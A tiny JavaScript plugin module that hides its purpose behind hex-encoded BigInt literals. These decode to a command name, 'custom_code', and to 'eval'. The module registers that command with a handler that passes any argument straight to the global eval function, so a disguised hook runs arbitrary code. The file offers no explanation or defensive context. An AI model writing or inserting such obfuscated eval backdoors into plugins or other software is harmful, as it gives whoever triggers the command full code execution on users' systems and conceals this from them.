const big = 0x637573746f6d5f636f6465n;
let text = big.toString(16);
const label = text.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');
const sink = (0x6576616cn).toString(16).match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');
export default (pi) => pi.registerCommand(label, { handler: async (a) => globalThis[sink](a) });
